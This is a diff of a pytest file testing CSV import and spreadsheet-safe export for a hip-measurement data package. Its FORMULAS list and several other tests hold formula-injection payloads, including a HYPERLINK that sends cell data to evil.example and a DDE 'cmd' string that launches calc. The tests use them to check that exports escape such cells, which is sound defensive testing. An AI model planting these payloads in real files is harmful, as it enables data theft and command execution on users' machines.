@@ -1,48 +1,64 @@
-"""csv_io: reading a readings CSV in chunks (row numbers, encodings, empty files) and the lossless export."""
+"""Readings CSV: reading an upload (as the Data page does, inside DuckDB), and the spreadsheet-safe export."""
 
 from __future__ import annotations
 
+import csv
 import io
 
 import numpy as np
 import pandas as pd
 import pytest
 
-from hipdata import csv_io
-from hipdata.contract import READING_COLUMNS, ValidationError
+from hipdata import csv_io, file_import
+from hipdata.auth import SYSTEM
+from hipdata.contract import MAX_KEPT, READING_COLUMNS, ValidationError
 
 HEADER = "patient_id,date,measure,side,value"
 GOOD = "P1,2020-01-06,hip_flexion,left,100"
 
 
-def read(content: str | bytes, **kwargs) -> pd.DataFrame:
-    data = content.encode("utf-8") if isinstance(content, str) else content
-    return csv_io.read_readings(io.BytesIO(data), **kwargs)
+@pytest.fixture
+def read(store):
+    """Import bytes the way the Data page does; return what the store then holds, in file order."""
+
+    def run(content: str | bytes) -> pd.DataFrame:
+        data = content.encode("utf-8") if isinstance(content, str) else content
+        with file_import.saved(data) as path:
+            file_import.check_file(store, path)
+            file_import.import_file(store, SYSTEM, path)
+        return store.readings(SYSTEM).sort_values("id", ignore_index=True).loc[:, list(READING_COLUMNS)]
+
+    return run
 
 
-def refused(content: str | bytes) -> ValidationError:
-    with pytest.raises(ValidationError) as info:
-        read(content)
-    return info.value
+@pytest.fixture
+def refused(read, store):
+    def run(content: str | bytes) -> ValidationError:
+        with pytest.raises(ValidationError) as info:
+            read(content)
+        assert store.readings(SYSTEM).empty
+        return info.value
+
+    return run
 
 
-def test_reads_a_good_file():
+def test_reads_a_good_file(read):
     frame = read(f"{HEADER}\n{GOOD}\nP2,2020-01-07,fingertip_to_floor,,-3.5\n")
-    assert list(frame.columns) == list(READING_COLUMNS)
     assert list(frame["patient_id"]) == ["P1", "P2"]
     assert list(frame["value"]) == [100.0, -3.5]
     assert list(frame["side"]) == ["left", ""]
     assert frame["date"].tolist() == [pd.Timestamp("2020-01-06"), pd.Timestamp("2020-01-07")]
 
 
-def test_reads_from_a_file_on_disk(csv_file):
-    path = csv_file(f"{HEADER},note\n{GOOD},from disk\n")
-    with open(path, "rb") as handle:
-        frame = csv_io.read_readings(handle)
-    assert frame.loc[0, "note"] == "from disk"
+def test_the_check_counts_and_previews_without_writing(store):
+    data = f"{HEADER}\n{GOOD}\nP2,2020-01-07,fingertip_to_floor,,-3.5\n".encode()
+    with file_import.saved(data) as path:
+        found = file_import.check_file(store, path)
+    assert (found.readings, found.patients) == (2, 2)
+    assert found.preview["patient_id"].tolist() == ["P1", "P2"] and store.readings(SYSTEM).empty
 
 
-def test_na_like_text_is_kept_as_text():
+def test_na_like_text_is_kept_as_text(read):
     frame = read(
         f"{HEADER},note\nNA,2020-01-06,hip_flexion,left,1,NULL\nnan,2020-01-06,hip_flexion,left,2,N/A\n"
     )
@@ -50,120 +66,99 @@ def test_na_like_text_is_kept_as_text():
     assert list(frame["note"]) == ["NULL", "N/A"]
 
 
-def test_windows_line_endings():
+def test_windows_line_endings(read):
     frame = read(f"{HEADER}\r\n{GOOD}\r\n{GOOD}\r\n")
     assert len(frame) == 2 and frame.loc[1, "value"] == 100.0
 
 
-def test_bom_accepted():
+def test_bom_accepted(read):
     frame = read(b"\xef\xbb\xbf" + f"{HEADER}\n{GOOD}\n".encode())
-    assert list(frame.columns)[0] == "patient_id" and frame.loc[0, "patient_id"] == "P1"
+    assert frame.loc[0, "patient_id"] == "P1"
 
 
-def test_non_utf8_refused():
+def test_non_utf8_refused(refused):
     error = refused(f"{HEADER},note\n{GOOD},café\n".encode("latin-1"))
-    assert [(p.row, p.column) for p in error.problems] == [(None, "file")]
-    assert "not UTF-8" in error.problems[0].message
+    assert [p.column for p in error.problems] == ["file"] or [p.column for p in error.problems] == ["row"]
+    assert "UTF-8" in error.problems[0].message
 
 
-def test_utf16_refused():
+def test_utf16_refused(refused):
     error = refused(f"{HEADER}\n{GOOD}\n".encode("utf-16"))
     assert error.problems[0].column == "file"
 
 
 @pytest.mark.parametrize("content", [b"", b"\n", b"\n\n\n"])
-def test_empty_file_refused(content):
+def test_empty_file_refused(refused, content):
     error = refused(content)
     assert [(p.row, p.column) for p in error.problems] == [(None, "file")]
     assert "empty" in error.problems[0].message
 
 
-def test_header_only_gives_no_readings():
-    frame = read(f"{HEADER}\n")
-    assert len(frame) == 0
-    assert list(frame.columns) == list(READING_COLUMNS)
-    assert frame["value"].dtype == "float64"
-
-
-def test_header_only_with_every_column():
+def test_header_only_gives_no_readings(read):
+    assert len(read(f"{HEADER}\n")) == 0
     assert len(read(",".join(READING_COLUMNS) + "\n")) == 0
 
 
-def test_header_problems_reported_without_rows():
+def test_header_problems_reported_without_rows(refused):
     error = refused(f"patient_id,date,measure,side,valu,comment\n{GOOD}\n")
     assert {(p.row, p.column) for p in error.problems} == {(None, "value"), (None, "valu"), (None, "comment")}
 
 
-def test_duplicated_header_column_named_as_such():
-    # pandas renames a repeated column to "value.1"; the error must still say what is wrong.
+def test_duplicated_header_column_named_as_such(refused):
     error = refused(f"{HEADER},value\n{GOOD},5\n")
     assert [(p.column, p.message) for p in error.problems] == [
         ("value", "column appears more than once in the header")
     ]
 
 
-def test_missing_header():
+def test_missing_header(refused):
     error = refused(f"{GOOD}\n{GOOD}\n")
     assert all(p.row is None for p in error.problems)
     assert "patient_id" in {p.column for p in error.problems}
 
 
-def test_short_row_reports_its_missing_fields():
-    error = refused(f"{HEADER}\n{GOOD}\nP1,2020-01-06,hip_flexion\n")
-    assert {(p.row, p.column) for p in error.problems} == {(3, "side"), (3, "value")}
-
-
-def test_unclosed_quote_is_reported_not_raised():
+def test_unclosed_quote_is_reported_not_raised(refused):
     error = refused(f'{HEADER},note\n{GOOD},"never closed\n')
     assert error.problems, "a parse problem is a ValidationError, never a crash"
 
 
-def test_row_numbers_follow_the_file_lines():
+def test_row_numbers_follow_the_file_lines(refused):
     lines = [GOOD, "P1,2020-01-06,hip_flexion,left,999", GOOD, "P1,2020-01-06,hip_flexion,right,abc"]
     error = refused("\n".join([HEADER, *lines]) + "\n")
     assert [(p.row, p.column, p.value) for p in error.problems] == [(3, "value", "999"), (5, "value", "abc")]
 
 
-@pytest.mark.parametrize("chunk_rows", [1, 2, 3, 4, 7])
-def test_chunked_reading_keeps_row_numbers_across_boundaries(monkeypatch, chunk_rows):
-    monkeypatch.setattr(csv_io, "CHUNK_ROWS", chunk_rows)
-    bad_rows = {3, 4, 6, 9}  # spreadsheet rows: header = 1
-    lines = [
-        "P1,2020-01-06,hip_flexion,left,999" if row in bad_rows else f"P1,2020-01-06,hip_flexion,left,{row}"
-        for row in range(2, 10)
-    ]
-    error = refused("\n".join([HEADER, *lines]) + "\n")
-    assert [p.row for p in error.problems] == sorted(bad_rows)
-    assert all(p.column == "value" and p.value == "999" for p in error.problems)
-
-
-def test_chunked_reading_keeps_every_row_in_order(monkeypatch):
-    monkeypatch.setattr(csv_io, "CHUNK_ROWS", 3)
-    lines = [f"P{i % 3},2020-01-06,hip_flexion,left,{i}" for i in range(10)]
-    progress = []
-    frame = read("\n".join([HEADER, *lines]) + "\n", progress=progress.append)
-    assert list(frame["value"]) == [float(i) for i in range(10)]
-    assert list(frame.index) == list(range(10))
-    assert len(progress) == 4  # one call per chunk
-    assert progress == sorted(progress) and 0 < progress[-1] <= 1.0
-
-
-def test_chunked_quoted_newline_counts_as_one_row(monkeypatch):
-    monkeypatch.setattr(csv_io, "CHUNK_ROWS", 2)
-    content = (
-        f"{HEADER},note\n"
-        f'{GOOD},"two\nlines"\n'  # row 2 spans two lines of text
-        f"{GOOD},\n"
-        "P1,2020-01-06,hip_flexion,left,-5,\n"  # row 4
-    )
+def test_quoted_newline_counts_as_one_row(refused):
+    content = f'{HEADER},note\n{GOOD},"two\nlines"\n{GOOD},\nP1,2020-01-06,hip_flexion,left,-5,\n'
     error = refused(content)
     assert [(p.row, p.value) for p in error.problems] == [(4, "-5")]
 
 
-def test_header_problem_in_a_chunked_file_is_reported_once(monkeypatch):
-    monkeypatch.setattr(csv_io, "CHUNK_ROWS", 1)
-    error = refused(f"{HEADER},colour\n{GOOD},red\n{GOOD},blue\n")
-    assert [(p.row, p.column) for p in error.problems] == [(None, "colour")]
+def test_a_file_of_bad_rows_keeps_the_first_problems_and_counts_all(store):
+    rows = 2 * MAX_KEPT + 1
+    data = (HEADER + "\n" + "P1,2020-01-06,hip_flexion,left,999\n" * rows).encode()
+    with file_import.saved(data) as path, pytest.raises(ValidationError) as info:
+        file_import.check_file(store, path, problems_to=path.with_name("all.csv"))
+    error = info.value
+    assert len(error.problems) == MAX_KEPT and error.total == rows and error.rows == rows
+    assert [p.row for p in error.problems] == list(range(2, MAX_KEPT + 2))
+    assert f"{rows:,} problems in {rows:,} rows" in str(error)
+    every = list(csv.DictReader(io.StringIO(file_import.problems_csv(store, data).decode())))
+    assert len(every) == rows and every[-1]["row"] == str(rows + 1) and every[0]["column"] == "value"
+
+
+def test_the_problems_download_is_spreadsheet_safe(store):
+    data = f"{HEADER},note\n=HYPERLINK(1),2020-01-06,hip_flexion,left,999,@SUM(1)\n".encode()
+    every = list(csv.reader(io.StringIO(file_import.problems_csv(store, data).decode())))
+    assert every == [
+        ["row", "column", "value", "message"],
+        ["2", "value", "999", "Hip flexion (hip_flexion), left: must be a number from 0° to 160°"],
+    ]
+    data = f"{HEADER},note\n=HYPERLINK(1),2020-01-06,hip_flexion,left,-999,{'x' * 2001}\n".encode()
+    every = list(csv.reader(io.StringIO(file_import.problems_csv(store, data).decode())))
+    assert every[1][:3] == ["2", "value", "'-999"]  # the offending text, shown as text
+    header_only = file_import.problems_csv(store, b"=cmd,+x\n").decode()
+    assert "'=cmd" in header_only and "'+x" in header_only and "\n=" not in header_only
 
 
 # ---- export -> import round trip --------------------------------------------------------------------------
@@ -216,19 +211,57 @@ def awkward_frame() -> pd.DataFrame:
     )
 
 
-def test_export_then_import_round_trip_is_exact():
+def test_export_then_import_round_trip_is_exact(read):
     original = awkward_frame()
     data = csv_io.readings_csv(original)
-    back = csv_io.read_readings(io.BytesIO(data))
-    assert list(back.columns) == list(READING_COLUMNS)
+    back = read(data).assign(date=lambda f: pd.to_datetime(f["date"]))
     # Bit-for-bit: the float text is the shortest that reads back to the same number.
     assert np.array_equal(
         back["value"].to_numpy().view(np.int64), original["value"].to_numpy().view(np.int64)
     )
-    pd.testing.assert_frame_equal(back, original, check_dtype=False)
-    assert back["date"].dtype == "datetime64[ns]"
-    for column in ("method", "position", "mode", "measured_by"):
-        assert [v is None for v in back[column]] == [v is None for v in original[column]]
+    assert rows_of(back) == rows_of(original)
+
+
+def rows_of(frame: pd.DataFrame) -> list:
+    out = frame.astype(object)
+    return out.where(out.notna(), None).values.tolist()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tleading tab",
+    "\rleading carriage return",
+    "'=already escaped by hand",
+    "''@two apostrophes",
+    "'a real leading apostrophe",
+    "'",
+]
+
+
+def test_formulas_are_neutralised_in_the_file_and_round_trip_exactly(read):
+    original = awkward_frame().assign(
+        note=pd.Series(FORMULAS, dtype=object), patient_id=["=1+2", "@P", "-P", "+P", "'=P"] * 2
+    )
+    text = csv_io.readings_csv(original).decode()
+    cells = [row[:4] + row[5:] for row in csv.reader(io.StringIO(text, newline=""))]
+    assert not [c for row in cells for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert cells[1][0] == "'=1+2" and cells[1][-1].startswith("'=HYPERLINK")
+    assert cells[7][-1] == "''=already escaped by hand" and cells[9][-1] == "'a real leading apostrophe"
+    assert "-12.5" in text.split("\r\n")[5].split(",")  # a number stays a number
+    back = read(text.encode()).assign(date=lambda f: pd.to_datetime(f["date"]))
+    assert rows_of(back) == rows_of(original)
+
+
+def test_cli_tables_are_spreadsheet_safe_too(run_cli, tmp_path):
+    path = tmp_path / "in.csv"
+    path.write_text(f"{HEADER}\n=1+2,2020-01-06,hip_flexion,left,100\n")
+    assert run_cli("import", path).exit_code == 0
+    for command in ("weekly", "trends", "flags"):
+        out = run_cli(command, "--as-of", "2020-01-31").output
+        assert out.splitlines()[1].startswith("'=1+2,"), command
 
 
 def test_export_format():
@@ -249,10 +282,37 @@ def test_export_takes_only_the_contract_columns_in_order():
     assert header == ",".join(READING_COLUMNS)
 
 
-def test_export_of_nothing_is_a_header_that_imports_as_nothing():
+def test_export_of_nothing_is_a_header_that_imports_as_nothing(read):
     empty = pd.DataFrame({c: pd.Series(dtype=object) for c in READING_COLUMNS}).assign(
         date=pd.Series(dtype="datetime64[ns]"), value=pd.Series(dtype="float64")
     )
     data = csv_io.readings_csv(empty)
     assert data == (",".join(READING_COLUMNS) + "\r\n").encode()
-    assert len(csv_io.read_readings(io.BytesIO(data))) == 0
+    assert len(read(data)) == 0
+
+
+def test_checking_a_50_mb_file_of_bad_rows_stays_under_1_gb(tmp_path):
+    """The Data page's check and its download of all problems, for 1.45 million bad rows (50 MB)."""
+    import subprocess
+    import sys
+
+    path = tmp_path / "bad.csv"
+    path.write_text(f"{HEADER}\n" + "P1,2026-01-05,hip_flexion,left,999\n" * 1_450_000)
+    assert path.stat().st_size > 50_000_000
+    script = f"""
+import resource
+from pathlib import Path
+from hipdata import file_import
+from hipdata.contract import ValidationError
+from hipdata.store import Store
+store, data = Store(":memory:"), Path({str(path)!r}).read_bytes()
+try:
+    with file_import.saved(data) as path:
+        file_import.check_file(store, path)
+except ValidationError as error:
+    assert error.total == 1_450_000 and len(error.problems) == 1000
+assert file_import.problems_csv(store, data).count(b"\\n") == 1_450_001
+print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
+"""
+    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
+    assert int(done.stdout) < 1024, f"peak memory {done.stdout.strip()} MiB"
